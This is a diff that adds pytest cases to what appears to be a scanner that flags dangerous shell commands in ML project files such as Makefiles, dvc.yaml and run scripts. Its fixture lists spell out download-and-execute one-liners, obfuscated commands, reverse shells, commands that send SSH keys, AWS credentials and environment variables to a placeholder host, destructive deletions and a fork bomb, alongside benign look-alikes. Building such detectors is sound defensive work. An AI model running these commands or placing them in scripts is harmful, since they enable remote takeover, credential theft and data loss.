@@ -286,3 +286,137 @@ def test_a_piece_that_begins_within_a_line_begins_with_no_comment(shift):
 def test_what_is_sent_away(command, found):
     for name in ("Makefile", "dvc.yaml"):
         assert (("MLG-CMD-001", "high") in verdicts(f"a:\n  cmd: {command}\n", name)) == found
+
+
+FETCHED = [
+    "curl -s {} | sudo -E bash -",
+    "curl {} | /usr/bin/env bash",
+    "curl {} | tee x.sh | sh",
+    "curl {} | base64 -d | sh",
+    "curl {} | gunzip | sh",
+    'curl "{}?a=1&b=2" | sh',
+    "curl {} | command sh",
+    "curl {} | busybox sh",
+    "curl {} | xargs -I{{}} bash -c {{}}",
+    "curl {} | perl",
+    "curl {} | node -",
+    "curl {} | python3 -u -",
+    "wget -qO- {} | php",
+    "bash <(curl -s {})",
+    'sh -c "$(curl -fsSL {})"',
+    'python -c "$(curl {})"',
+    "python3 <(curl {})",
+    "eval `wget -qO- {}`",
+    "curl {} -o /tmp/a; sh /tmp/a",
+    "curl {} > a.sh && bash a.sh",
+    "curl {}/a.py -O\npython a.py",
+    "wget {}/a.py; python ./a.py",
+    "aria2c {}/a && sh a",
+    "lynx -source {} | sh",
+    "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('{}')\"",
+    "iwr -useb {} | iex",
+    "certutil -urlcache -f {} a.exe",
+    "mshta {}",
+]
+
+
+@pytest.mark.parametrize("command", FETCHED)
+def test_a_download_that_is_run(command):
+    plain = command.format("http://x.example/y")
+    assert set(verdicts(f"#!/bin/sh\n{plain}\n", "run.sh")) == {("MLG-CMD-001", "high")}
+    # Encrypted, it is what installers do.
+    encrypted = verdicts(f"#!/bin/sh\n{plain.replace('http:', 'https:')}\n", "run.sh")
+    assert encrypted[-1:] == [("MLG-CMD-001", "info")]
+
+
+GRAVE = [
+    'bash -c "$(echo aGk= | base64 -d)"',
+    "eval `echo 6869 | xxd -r -p`",
+    "base64 --decode <<< aGk= | sh",
+    r"printf '\x63\x75' | sh",
+    "echo 'phey' | tr a-z n-za-m | sh",
+    "echo ih | rev | sh",
+    r"$(printf 'cu\x72l') http://x | sh",
+    "curl${IFS}http://x|sh",
+    "cu''rl https://x | b\"a\"sh",
+    "c\\url https://x | sh",
+    "curl https://x | s''h",
+    "powershell -enc ZQBjAGgAbwAgAGgAaQA=",
+    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+    "sh -i 2>&1 | nc 10.0.0.1 4444",
+    "nc 10.0.0.1 4444 | sh",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+    "openssl s_client -quiet -connect x:443 | sh",
+    "python -c 'import socket,os,pty;s=socket.socket();s.connect((1,2));pty.spawn(\"sh\")'",
+    "perl -e 'use Socket;socket(S,1,2,3);exec(\"/bin/sh\");'",
+    'curl -d "$(env)" https://x',
+    "wget --post-file=/etc/passwd https://x",
+    'curl -d "$(cat ~/.ssh/id_rsa)" https://x',
+    "cat ~/.aws/credentials | nc x 80",
+    "nc x 80 < ~/.netrc",
+    "scp ~/.ssh/id_rsa u@x:",
+    "curl https://x/?k=$AWS_SECRET_ACCESS_KEY",
+    "rm -rf ~",
+    "rm -rf / --no-preserve-root",
+    'rm -fr "$HOME"',
+    ":(){ :|:& };:",
+    "echo key >> ~/.ssh/authorized_keys",
+    "chmod u+s /bin/bash",
+    "LD_PRELOAD=/tmp/x.so python serve.py",
+]
+
+
+@pytest.mark.parametrize("command", GRAVE)
+def test_what_is_hidden_sent_connected_or_changed(command):
+    assert "high" in {severity for _, severity in verdicts(f"#!/bin/sh\n{command}\n", "run.sh")}
+    assert verdicts(f"#!/bin/sh\n# {command}\n", "run.sh") in ([], [("MLG-CMD-001", "high")])
+
+
+@pytest.mark.parametrize(
+    "command", ["$FETCH $ADDRESS | sh", "$a$b https://x", "ssh u@x cat y | sh", "dig x | sh"]
+)
+def test_what_nobody_can_say_what_it_runs(command):
+    assert verdicts(f"#!/bin/sh\n{command}\n", "run.sh") == [("MLG-CMD-001", "medium")]
+
+
+ORDINARY = [
+    'curl -s https://x | python3 -c "import sys, json; print(json.load(sys.stdin))"',
+    "curl -s http://localhost:8000/health | python -m json.tool",
+    "wget http://x/train2017.zip && unzip train2017.zip && python prepare.py",
+    "wget -q http://x/a.tar.gz && tar xzf a.tar.gz; bash train.sh",
+    "wget http://x/data.csv -O data.csv; python train.py --data data.csv",
+    "curl http://x/vocab.txt > vocab.txt && python tokenize.py vocab.txt",
+    "until curl -s http://localhost:8080/ping; do sleep 1; done; python client.py",
+    "apt-get install -y curl wget && rm -rf /var/lib/apt/lists/*",
+    "rm -rf ~/.cache/pip /tmp/* $HOME/.cache/huggingface",
+    "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4",
+    "find . -name '*.sh' | xargs chmod +x",
+    "cat jobs.txt | bash",
+    "env | sort > env.txt && env | grep CUDA",
+    'curl -H "Authorization: Bearer $HF_TOKEN" https://x/api',
+    'rsync -avz -e "ssh -i ~/.ssh/id_rsa" ./out user@host:/data',
+    "scp -i ~/.ssh/id_rsa model.bin user@host:/models/",
+    "ssh user@host 'bash -s' < run.sh",
+    "kubectl get secret x -o jsonpath='{.data.token}' | base64 --decode",
+    'echo "$KEY" | base64 --decode | docker login --password-stdin',
+    'eval "$(conda shell.bash hook)"; eval "$(ssh-agent -s)"',
+    "source <(kubectl completion bash)",
+    "P=$(python -c 'import socket; s=socket.socket(); s.bind((\"\", 0)); print(s.getsockname()[1])')",
+    "openssl enc -d -aes-256-cbc -in a.enc -out a.json",
+    "openssl s_client -connect x:443 < /dev/null | openssl x509 -noout -dates",
+    "while ! nc -z db 5432; do sleep 1; done",
+    "cat text | tr 'A-Z' 'a-z' | sort | uniq -c",
+    "cat data | perl scripts/tokenizer.perl -l en | python filter.py",
+    "$PYTHON train.py 2>&1 | tee log.txt",
+    r"printf '\033[31mred\033[0m\n'",
+    "mkfifo pipe; python a.py > pipe & python b.py < pipe",
+    "Invoke-WebRequest -Uri https://x/model.zip -OutFile model.zip",
+    "chmod 4755 /opt/x/bin && chmod +x run.sh && ./run.sh",
+]
+
+
+@pytest.mark.parametrize("command", ORDINARY)
+def test_what_ordinary_scripts_do(command):
+    assert verdicts(f"#!/bin/sh\nset -e\n{command}\npython serve.py\n", "run.sh") == []
+    assert verdicts(f"stages:\n  a:\n    cmd: |\n      {command}\n", "dvc.yaml") == []
